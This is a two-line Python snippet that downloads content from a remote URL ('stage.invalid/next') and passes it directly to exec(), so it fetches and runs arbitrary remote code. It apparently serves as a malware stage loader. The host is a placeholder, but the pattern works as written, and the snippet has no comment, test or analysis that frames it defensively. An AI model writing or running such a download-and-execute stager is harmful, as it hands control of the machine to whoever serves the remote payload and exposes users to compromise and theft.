import urllib.request

exec(urllib.request.urlopen("http://stage.invalid/next").read())
